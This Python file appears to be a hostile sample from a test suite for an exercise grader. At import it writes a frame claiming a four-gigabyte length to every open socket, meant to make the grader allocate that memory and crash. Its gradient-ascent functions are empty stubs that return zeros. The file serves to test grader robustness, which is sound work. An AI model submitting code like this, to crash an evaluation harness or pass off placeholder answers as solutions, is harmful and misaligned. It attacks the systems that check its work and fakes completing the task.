"""A frame that claims four gigabytes makes the grader allocate them."""

import os
import stat
import struct

EXERCISE = "02"
OUTCOMES = {"crashed"}
FLOOR = 0
CONTROL = "killed: the grader waits for the rest of the frame"
GRADER = "socket"


def everywhere(data):
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, data)
        except OSError:
            continue


everywhere(struct.pack("<IB8s", 0xFFFFFFFF, 3, bytes(8)))


def peaks(x, y):
    return 0 * x


def peaks_gradient(x, y):
    return 0 * x, 0 * y


def sympy_gradient(expression):
    return expression, expression


def ascend_by_sign(gradient, start, learning_rate, epochs):
    return [[0.0, 0.0]] * (epochs + 1)


def ascend_by_negation(descend, gradient, start, learning_rate, epochs):
    return [[0.0, 0.0]] * (epochs + 1)
